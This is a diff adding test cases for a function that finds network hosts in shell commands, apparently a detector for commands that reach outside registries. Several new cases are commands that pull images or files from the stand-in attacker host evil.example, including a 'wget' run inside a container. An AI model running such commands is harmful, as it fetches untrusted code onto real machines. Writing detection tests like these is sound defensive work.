@@ -87,6 +87,11 @@ def hosts(line: str) -> list[str]:
         ("docker buildx build -o type=registry,name=e.example/i .", [UNKNOWN]),
         ("docker compose push", [UNKNOWN]),
         ("gh extension install evil.example/o/gh-x", ["evil.example"]),
+        ("GH_REPO=evil.example/o/r gh pr list", ["evil.example"]),
+        # an option read wrongly hides no registry: any qualified reference counts
+        ("podman --cgroup-manager systemd pull evil.example/x", ["evil.example"]),
+        ("docker run --some-new-flag evil.example/x", ["evil.example"]),
+        ("docker run alpine wget evil.example/x", ["docker.io", "evil.example"]),
     ],
 )
 def test_hosts_written_without_a_scheme_are_found(line: str, expected: list[str]):
@@ -114,6 +119,8 @@ def test_hosts_written_without_a_scheme_are_found(line: str, expected: list[str]
         "gh pr list",
         "gh run list -R o/r",
         "gh repo clone o/r",
+        "gh repo clone o/r ./a/b",
+        "GH_REPO=o/r gh pr list",
         "npm install lodash",
         "npm run build",
         "git submodule status",
